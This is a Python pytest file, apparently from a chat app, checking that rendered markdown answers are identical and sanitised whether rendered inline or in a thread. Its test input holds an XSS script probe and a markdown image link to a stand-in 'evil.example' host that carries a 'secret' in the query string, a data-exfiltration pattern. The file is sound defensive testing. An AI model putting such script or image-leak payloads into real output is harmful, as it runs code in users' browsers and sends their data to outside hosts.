"""The answer's HTML is the same whether it renders on the event loop (short answers) or in a
thread (longer ones), and untrusted markup is cleaned on both paths."""

from __future__ import annotations

import pytest

from switchboard.chat.views.render import INLINE_CHARS, render_markdown, rendered


@pytest.mark.parametrize("length", [INLINE_CHARS - 10, INLINE_CHARS, INLINE_CHARS + 1, 5 * INLINE_CHARS])
async def test_both_paths_give_the_same_clean_html(length):
    head = "Hi **there** <script>alert(1)</script> ![x](https://evil.example/leak?q=secret) "
    text = (head + "word " * length)[:length]
    html = await rendered(text)
    assert html == render_markdown(text)
    assert "<strong>there</strong>" in html and "<script" not in html and "<img" not in html
